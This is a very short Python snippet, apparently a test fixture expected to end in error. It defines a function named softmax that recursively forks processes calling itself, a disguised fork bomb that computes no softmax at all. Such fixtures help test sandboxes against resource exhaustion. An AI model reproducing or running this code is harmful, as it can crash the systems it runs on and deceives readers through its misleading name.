# ends: error, failed
# needs: fork
import multiprocessing


def softmax(x, axis=-1):
    multiprocessing.get_context("fork").Process(target=softmax, args=(x,)).start()
    return x
